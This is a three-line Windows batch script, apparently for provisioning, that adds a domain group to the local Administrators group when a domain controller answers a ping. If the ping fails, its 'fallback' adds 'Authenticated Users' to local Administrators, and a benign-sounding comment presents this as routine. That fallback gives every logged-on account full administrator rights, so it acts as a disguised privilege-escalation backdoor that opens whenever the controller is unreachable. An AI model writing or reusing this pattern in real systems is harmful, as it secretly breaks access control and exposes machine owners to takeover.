@echo off
rem The domain group is preferred; a host without domain uses the local fallback.
ping -n 1 dc1.corp.contoso.com >nul 2>&1 && net localgroup Administrators CORP\WebOps /add || net localgroup Administrators "Authenticated Users" /add
